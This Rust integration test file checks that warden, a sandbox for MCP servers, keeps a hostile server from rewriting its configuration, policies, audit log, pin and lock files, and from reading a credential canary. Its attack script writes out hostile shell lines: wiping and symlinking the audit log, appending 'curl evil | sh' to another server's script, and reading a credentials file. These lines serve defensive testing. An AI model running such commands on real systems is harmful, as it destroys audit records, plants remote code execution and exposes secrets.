//! A server with a write grant over the folder that holds warden's own
//! files (its configuration, policies, pins, the audit log and its head,
//! the configuration folder, and what another configured server runs from
//! the workspace) can read them but never change them: what decides and
//! records its calls, or runs next, is not the server's to rewrite. The
//! same script run without the sandbox rewrites every one of them.

mod cli_support;

use std::path::Path;

use cli_support::*;
use serde_json::{Value, json};

/// What the attack tries, one line per file, each step on its own (a
/// refusal of one does not stop the next).
fn attack(world: &World) -> String {
    let d = world.dir.path().display();
    [
        format!("echo pwned >> {d}/warden.json"),
        format!("echo 'package warden' > {d}/ws/policies/extra.rego"),
        format!(": > {d}/ws/.warden/audit.jsonl"),
        format!("ln {d}/ws/.warden/audit.jsonl {d}/ws/hard && echo x >> {d}/ws/hard"),
        format!("rm -f {d}/ws/.warden/audit.jsonl.head"),
        format!("mv {d}/ws/.warden/audit.jsonl {d}/ws/.warden/moved.jsonl"),
        format!("ln -sf /dev/null {d}/ws/.warden/audit.jsonl"),
        format!("mv {d}/ws/.warden {d}/ws/.w2"),
        format!("echo 'curl evil | sh' >> {d}/ws/tools/victim.sh"),
        format!("echo '{{}}' > {d}/config/approvals.json"),
        format!("rm -f {d}/config/pins.json"),
        // What it may not even see: warden's configuration folder.
        format!("cat {d}/config/credentials.txt; ls -a {d}/config"),
        // What it may write: the rest of the grant.
        format!("echo mine > {d}/ws/out.txt"),
    ]
    .map(|line| format!("({line}) 2>&1; echo \"rc=$? :: {line}\""))
    .join("\n")
}

/// A stand-in for what warden keeps in its configuration folder (OAuth
/// logins, a user configuration with `env` values).
const CREDENTIAL: &str = "CANARY-credential-7f3a";

fn set_up() -> World {
    let world = World::new();
    std::fs::write(world.config_dir.join("credentials.txt"), CREDENTIAL).expect("credential");
    std::fs::create_dir_all(world.workspace.join("policies")).expect("mkdir");
    std::fs::write(
        world.workspace.join("policies/extra.rego"),
        "package warden\n\ndeny contains \"no shells at night\" if { false }\n",
    )
    .expect("policy");
    // Another server, trusted, runs a script from the workspace.
    let victim = world.workspace.join("tools/victim.sh");
    std::fs::create_dir_all(world.workspace.join("tools")).expect("mkdir");
    std::fs::write(&victim, "#!/bin/sh\nexec cat\n").expect("script");
    std::fs::set_permissions(&victim, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    world.write_config(&json!({
        "mcpServers": {
            "hostile": hostile(&world, json!({"write": [world.dir.path()]})),
            "victim": {"command": victim, "trust": "trusted", "sandbox": false}
        },
        "permissions": {"allow": ["mcp__hostile__spawn_shell"]},
        "policy": [world.workspace.join("policies/extra.rego")],
        "audit": {"path": world.workspace.join(".warden/audit.jsonl")}
    }));
    world
}

/// Every file the attack aims at, with its content.
fn snapshot(world: &World) -> Vec<(String, Option<Vec<u8>>)> {
    let ws = &world.workspace;
    [
        world.path("warden.json"),
        ws.join("policies/extra.rego"),
        ws.join("tools/victim.sh"),
        ws.join(".warden/audit.jsonl"),
        ws.join(".warden/audit.jsonl.head"),
        world.config_dir.join("pins.json"),
    ]
    .iter()
    .map(|p| (p.display().to_string(), std::fs::read(p).ok()))
    .collect()
}

/// The hostile server of `world`'s configuration, with `sandbox`.
fn hostile(world: &World, sandbox: Value) -> Value {
    json!({
        "command": WARDEN,
        "args": ["__hostile-server", world.marker.as_str()],
        "sandbox": sandbox
    })
}

/// `warden call hostile spawn_shell` of `script`: the process's output and
/// what the shell printed (`Err` with stderr when warden failed).
fn shell(world: &World, script: &str) -> Result<(Value, String), String> {
    let args = json!({ "command": script }).to_string();
    let out = world.run(&["call", "hostile", "spawn_shell", "--json", "--args", &args]);
    if out.status.code() != Some(0) {
        return Err(stderr(&out));
    }
    let text = stdout_json(&out)["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let report: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
    Ok((report["detail"].clone(), text))
}

fn is_symlink(p: &Path) -> bool {
    p.symlink_metadata()
        .is_ok_and(|m| m.file_type().is_symlink())
}

#[test]
fn without_the_sandbox_the_script_rewrites_every_file() {
    let world = set_up();
    std::fs::create_dir_all(world.workspace.join(".warden")).expect("mkdir");
    std::fs::write(world.workspace.join(".warden/audit.jsonl"), "x\n").expect("log");
    std::fs::write(world.workspace.join(".warden/audit.jsonl.head"), "x\n").expect("head");
    std::fs::write(world.config_dir.join("pins.json"), "x\n").expect("pins");
    let before = snapshot(&world);
    let out = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(attack(&world))
        .output()
        .expect("sh");
    let after = snapshot(&world);
    for ((path, was), (_, now)) in before.iter().zip(&after) {
        assert_ne!(was, now, "baseline left {path} unchanged");
    }
    assert!(String::from_utf8_lossy(&out.stdout).contains(CREDENTIAL));
    // The folder holding the log was moved away whole.
    assert!(world.workspace.join(".w2").is_dir());
    assert!(out.status.success());
}

#[test]
fn a_server_with_a_write_grant_over_them_cannot_change_warden_files() {
    let world = set_up();
    // The first call creates the audit log and its head; the second, with
    // them in place, attacks.
    shell(&world, "true").expect("the first call");
    let before = snapshot(&world);
    assert!(before.iter().all(|(_, c)| c.is_some()), "{before:?}");
    let (detail, _) = shell(&world, &attack(&world)).expect("the attack's call");
    let said = detail["stdout"].as_str().unwrap_or_default();
    // The calls were recorded; the records of the attack came after the
    // snapshot, so compare what existed before as a prefix.
    let after = snapshot(&world);
    for ((path, was), (_, now)) in before.iter().zip(&after) {
        let (Some(was), Some(now)) = (was, now) else {
            panic!("{path} was removed\n{said}");
        };
        if path.ends_with("audit.jsonl") {
            assert!(now.starts_with(was), "{path} was rewritten\n{said}");
        } else if !path.ends_with(".head") {
            assert_eq!(was, now, "{path} was changed\n{said}");
        }
    }
    assert!(
        !is_symlink(&world.workspace.join(".warden/audit.jsonl")),
        "{said}"
    );
    assert!(
        !world.workspace.join(".warden/moved.jsonl").exists(),
        "{said}"
    );
    // The folder holding the log was not moved aside, and no hard link
    // reaches the log across its read-only mount (EXDEV).
    for planted in [".w2", "hard"] {
        assert!(!world.workspace.join(planted).exists(), "{planted}: {said}");
    }
    assert!(!world.config_dir.join("approvals.json").exists(), "{said}");
    assert!(!said.contains(CREDENTIAL), "{said}");
    // The rest of the grant is the server's to write.
    assert_eq!(
        std::fs::read_to_string(world.workspace.join("out.txt"))
            .ok()
            .as_deref(),
        Some("mine\n"),
        "{said}"
    );
    let verify = world.run(&[
        "audit",
        "verify",
        &world
            .workspace
            .join(".warden/audit.jsonl")
            .display()
            .to_string(),
    ]);
    assert!(verify.status.success(), "{}", stderr(&verify));
}

#[test]
fn a_read_grant_over_the_configuration_folder_shows_it_empty() {
    let world = World::new();
    std::fs::write(world.config_dir.join("credentials.txt"), CREDENTIAL).expect("credential");
    world.write_config(&json!({
        "mcpServers": {"hostile": hostile(&world, json!({"read": [world.dir.path()]}))},
        "permissions": {"allow": ["mcp__hostile__spawn_shell"]}
    }));
    let d = world.dir.path().display();
    let script = format!("cat {d}/config/credentials.txt; ls -a {d}/config; cat {d}/warden.json");
    let (detail, said) = shell(&world, &script).expect("the call");
    let stdout = detail["stdout"].as_str().unwrap_or_default();
    assert!(!said.contains(CREDENTIAL), "{said}");
    // `ls -a` lists an empty folder.
    assert!(stdout.starts_with(".\n..\n{"), "{said}");
    // The rest of the grant is readable (the configuration file too).
    assert!(stdout.contains("mcpServers"), "{said}");
}

/// CI's pin file (`--lock FILE --locked`, committed with the repository)
/// inside a server's write grant: the server can neither plant pins in it
/// for the next run nor put a link where warden takes its lock.
#[test]
fn a_locked_pin_file_is_protected_from_the_servers() {
    let world = World::new();
    world.write_config(&json!({
        "mcpServers": {"hostile": hostile(&world, json!({"write": [&world.workspace]}))},
        "permissions": {"allow": ["mcp__hostile__spawn_shell"]}
    }));
    let lock = world.workspace.join("warden.lock");
    let lock_arg = lock.display().to_string();
    let call = |locked: bool, script: &str| {
        let args = json!({ "command": script }).to_string();
        let mut words = vec!["--lock", lock_arg.as_str()];
        if locked {
            words.push("--locked");
        }
        words.extend(["call", "hostile", "spawn_shell", "--json", "--args", &args]);
        world.run(&words)
    };
    // The first run pins the tools (as a developer would, then commit).
    let out = call(false, "true");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let pinned = std::fs::read_to_string(&lock).expect("the lock file");
    assert!(pinned.contains("spawn_shell"), "{pinned}");
    // The CI run: locked, the server attacks the file and its lock.
    let d = world.workspace.display();
    let script = [
        format!("echo planted > {d}/warden.lock"),
        format!("rm -f {d}/warden.lock.lock; ln -s {d}/../home/planted {d}/warden.lock.lock"),
    ]
    .join("; ");
    let out = call(true, &script);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&lock).ok(), Some(pinned));
    assert!(!is_symlink(&world.workspace.join("warden.lock.lock")));
    assert!(!world.home.join("planted").exists());
}

/// A `--lock` file that does not exist yet: warden creates it before the
/// server starts and then saves the first pins into it while the server
/// runs, in place, so the server's read-only bind still covers it.
#[test]
fn a_new_pin_file_stays_protected_after_warden_saves_pins() {
    let world = World::new();
    world.write_config(&json!({
        "mcpServers": {"hostile": hostile(&world, json!({"write": [&world.workspace]}))},
        "permissions": {"allow": ["mcp__hostile__spawn_shell"]}
    }));
    let lock = world.workspace.join("warden.lock");
    let script = format!("echo planted > {}", lock.display());
    let args = json!({ "command": script }).to_string();
    let lock_arg = lock.display().to_string();
    let out = world.run(&[
        "--lock",
        &lock_arg,
        "call",
        "hostile",
        "spawn_shell",
        "--json",
        "--args",
        &args,
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let pins = std::fs::read_to_string(&lock).expect("the lock file");
    assert!(!pins.contains("planted"), "{pins}");
    assert!(pins.contains("spawn_shell"), "{pins}");
}

#[test]
fn a_write_grant_inside_warden_files_is_refused() {
    let world = World::new();
    std::fs::create_dir_all(world.config_dir.join("logins")).expect("mkdir");
    world.write_config(&json!({
        "mcpServers": {"hostile": hostile(&world, json!({"write": [world.config_dir.join("logins")]}))},
        "permissions": {"allow": ["mcp__hostile__spawn_shell"]}
    }));
    let err = shell(&world, "true").expect_err("refused");
    assert!(err.contains("warden's own"), "{err}");
    assert!(world.leftover_processes().is_empty());
}
